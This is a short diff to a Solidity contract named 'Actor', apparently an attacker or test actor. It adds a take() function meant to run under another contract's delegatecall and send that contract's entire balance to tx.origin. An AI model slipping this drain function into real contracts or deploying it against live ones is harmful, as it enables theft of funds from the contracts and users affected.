@@ -28,6 +28,11 @@ contract Actor {
         require(ok, "refused");
     }
 
+    /** Run by somebody else's delegatecall: takes what that contract holds. */
+    function take() external {
+        payable(tx.origin).transfer(address(this).balance);
+    }
+
     receive() external payable {
         react();
     }
